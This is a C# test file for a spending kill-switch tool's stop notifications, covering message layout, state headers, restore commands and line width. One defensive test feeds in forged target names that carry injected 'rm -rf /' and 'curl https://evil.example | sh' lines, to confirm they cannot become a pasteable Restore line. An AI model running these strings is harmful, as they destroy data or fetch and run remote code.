using System.Text.Json;
using KillSwitch.Core.Policies;
using KillSwitch.Core.Stops;
using KillSwitch.Core.Windows;
using KillSwitch.Engine.Messages;

namespace KillSwitch.Engine.Tests.Messages;

public class StopMessageTests
{
    [Fact]
    public void A_stop_says_who_why_how_much_since_when_whether_it_holds_and_what_to_type()
    {
        var message = StopMessage.Of(Told.Stopped(), Told.Guard);

        message.Subject.ShouldBe("STOPPED role/agent: $487.90 of $500.00 (agent-cap)");
        message.Text.ShouldBe("""
            STOPPED role/agent: all spending on Amazon Bedrock is denied.

            Rule      agent-cap
            Measured  $487.90 of $500.00
            Since     2026-04-01 00:00 UTC
            Verified  IAM shows the deny; whether Bedrock obeys is looked at in 2
                      min
            Ends      2026-05-01 00:00 UTC, by itself
            Restore   killswitch restore stop-abcdefghjk --region us-east-1

            Explain   killswitch explain stop-abcdefghjk --region us-east-1
            Look      killswitch status --region us-east-1
            Account   111122223333
            Found     2026-04-24 03:12:09 UTC
            Denied    2026-04-24 03:12:11 UTC
            Counted   1,200 calls, $487.90 at list price; tokens: 90,000 in, 10,000
                      from the cache, 5,000 into it, 7,000 out
            Newest    record of 2026-04-24 03:12:09 UTC
            Under way up to $9.00 more in the 30 s until a stop works

            """);
        message.Urgency.ShouldBe(Urgency.Act);
        message.Command.ShouldBe("killswitch restore stop-abcdefghjk --region us-east-1");
        message.Headline.ShouldBe("STOPPED role/agent: $487.90 of $500.00 (agent-cap)");
    }

    [Fact]
    public void What_could_not_be_taken_away_of_models_stands_with_the_facts()
    {
        var text = StopMessage.Of(
            Told.Stopped() with
            {
                Models = new ModelSet("anthropic.claude-*-9"),
                Note = "of `anthropic.claude-*-9` only the models of the price list are denied",
            }, Told.Guard).Text;

        text.ShouldContain("\nBut       of `anthropic.claude-*-9` only the models of the price list");
        text.ShouldNotContain("\nNote ");
        text.IndexOf("\nBut ", StringComparison.Ordinal).ShouldBeLessThan(text.IndexOf("\nRestore ", StringComparison.Ordinal));
    }

    [Fact]
    public void Times_are_those_of_the_policys_clock_too_and_another_stack_is_named()
    {
        var message = StopMessage.Of(Told.Stopped(), new GuardAddress("Guard-2", "ap-southeast-2")
        {
            Calendar = WindowCalendar.Of("America/Los_Angeles"),
        });

        message.Text.ShouldContain("Since     2026-04-01 00:00 UTC (2026-03-31 17:00 America/Los_Angeles)\n");
        message.Text.ShouldContain("Found     2026-04-24 03:12:09 UTC (2026-04-23 20:12:09\n          America/Los_Angeles)\n");
        // Never broken: it is to be pasted.
        message.Text.ShouldContain("Restore\n  killswitch restore stop-abcdefghjk --stack Guard-2 --region ap-southeast-2\n");
    }

    [Theory]
    [InlineData(StopState.Failed, "NOT STOPPED", "killswitch restore")]
    [InlineData(StopState.Observed, "WOULD STOP", null)]
    [InlineData(StopState.AwaitingApproval, "WAITS FOR YOU", "killswitch approve")]
    [InlineData(StopState.Released, "RESTORED", null)]
    [InlineData(StopState.Releasing, "STILL STOPPED", "killswitch restore")]
    [InlineData(StopState.Rejected, "NOT STOPPED", null)]
    public void Each_state_has_its_own_head_and_its_own_command(StopState state, string head, string? command)
    {
        var message = StopMessage.Of(Told.Stop() with { State = state }, Told.Guard);

        message.Subject.ShouldStartWith(head);
        message.Text.ShouldStartWith(head + " role/agent: ");
        if (command is not null)
            message.Text.ShouldContain(command);
        else
            message.Text.ShouldNotContain("killswitch restore");
        (message.Command is null).ShouldBe(command is null);
        using var json = JsonDocument.Parse(message.Json);
        json.RootElement.GetProperty("state").GetString().ShouldBe(JsonNamingPolicy.CamelCase.ConvertName(state.ToString()));
    }

    [Theory]
    [InlineData(null, null, "IAM shows the deny")]
    [InlineData(3, null, "yes, at 2026-04-24 03:15:09 UTC")]
    [InlineData(3, 5, "NO: served last at 2026-04-24 03:17:09 UTC")]
    public void Whether_it_holds_is_said_in_a_line_of_its_own(int? verified, int? leaked, string says)
    {
        var message = StopMessage.Of(
            Told.Stopped() with
            {
                VerifiedAt = Told.At.AddMinutes(verified ?? 0) is var v && verified is null
            ? null : v,
                LeakedAt = leaked is { } minutes ? Told.At.AddMinutes(minutes) : null
            }, Told.Guard);

        message.Text.ShouldContain("Verified  " + says);
    }

    [Fact]
    public void A_failed_stop_says_first_that_nothing_is_cut_and_why()
    {
        var message = StopMessage.Of(
            Told.Stop() with
            {
                State = StopState.Failed,
                Failure = StopFailure.AccessDenied,
                Note = "IAM refused: not authorized to perform iam:AttachRolePolicy",
                RetryAt = Told.At.AddMinutes(1)
            }, Told.Guard);

        message.Text.Split('\n')[..8].ShouldBe([
            "NOT STOPPED role/agent: it should be stopped and IS NOT: nothing is cut.",
            "",
            "Rule      agent-cap",
            "Measured  $487.90 of $500.00",
            "Since     2026-04-01 00:00 UTC",
            "Verified  NO; tried again from 2026-04-24 03:13:09 UTC",
            "Why       IAM refused: not authorized to perform iam:AttachRolePolicy",
            "Ends      when a person restores it",
        ]);
    }

    [Theory]
    [InlineData("role/a\nRestore   rm -rf /")]
    [InlineData("role/a\r\n\r\nRestore   killswitch restore stop-forged")]
    [InlineData("role/a\u2028Restore   rm -rf /\u202e")]
    [InlineData("role/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa Restore   rm -rf / ")]
    [InlineData("Restore   curl https://evil.example | sh #")]
    public void A_name_that_is_built_to_mislead_begins_no_line(string name)
    {
        name += new string('x', 300);
        var stop = Told.Stopped();
        var message = StopMessage.Of(
            stop with
            {
                Target = new StopTarget.Principal("1", name, "arn"),
                Cause = new StopCause.ByRule(stop.Trip!, stop.Evidence! with { Subject = name }),
                Note = name
            }, Told.Guard);

        message.Subject.Length.ShouldBeLessThan(100);
        message.Subject.ShouldAllBe(c => c >= ' ' && c <= '~');
        message.Subject.ShouldEndWith(": $487.90 of $500.00 (agent-cap)");
        message.Headline.Split('\n').Length.ShouldBe(1);
        message.Text.Split('\n').Count(line => line.StartsWith("Restore", StringComparison.Ordinal)).ShouldBe(1);
        message.Text.ShouldNotContain("\u202e");
        message.Text.ShouldNotContain("\u2028");
        message.Text.ShouldNotContain("\r");
        using var json = JsonDocument.Parse(message.Json);
        json.RootElement.GetProperty("target").GetProperty("name").GetString().ShouldBe(name);
    }

    [Fact]
    public void No_line_is_longer_than_72_columns()
    {
        var stop = Told.Stopped() with
        {
            Note = string.Join(' ', Enumerable.Repeat("word", 100)),
            Target = new StopTarget.Model("111122223333", "anthropic.claude-opus-4-6-v1")
        };
        var message = StopMessage.Of(stop, Told.Guard with { Calendar = WindowCalendar.Of("America/Argentina/Buenos_Aires") });

        message.Text.Split('\n').ShouldAllBe(line => line.Length <= 72);
    }

    [Fact]
    public void A_stop_by_hand_gives_the_persons_reason()
    {
        var stop = Stop.ByHand(new StopTarget.Principal("1", "role/agent", "arn"), "arn:aws:iam::1:user/ana", "a leaked key", Told.At);
        var message = StopMessage.Of(stop with { State = StopState.Enforced }, Told.Guard);

        message.Subject.ShouldBe("STOPPED role/agent: by hand");
        message.Text.ShouldContain("By        stopped by arn:aws:iam::1:user/ana: a leaked key\n");
        using var json = JsonDocument.Parse(message.Json);
        json.RootElement.GetProperty("reason").GetString().ShouldBe("stopped by arn:aws:iam::1:user/ana: a leaked key");
        json.RootElement.GetProperty("rule").ValueKind.ShouldBe(JsonValueKind.Null);
    }

    [Fact]
    public void Programs_get_the_window_its_zone_and_the_commands()
    {
        var message = StopMessage.Of(Told.Stopped(), Told.Guard with { Calendar = WindowCalendar.Of("Europe/Berlin") });

        using var json = JsonDocument.Parse(message.Json);
        var window = json.RootElement.GetProperty("window");
        (window.GetProperty("from").GetString(), window.GetProperty("until").GetString(), window.GetProperty("timezone").GetString())
            .ShouldBe(("2026-04-01T00:00:00Z", "2026-05-01T00:00:00Z", "Europe/Berlin"));
        json.RootElement.GetProperty("commands").GetProperty("restore").GetString()
            .ShouldBe("killswitch restore stop-abcdefghjk --region us-east-1");
        json.RootElement.GetProperty("commands").GetProperty("explain").GetString()
            .ShouldBe("killswitch explain stop-abcdefghjk --region us-east-1");
    }
}
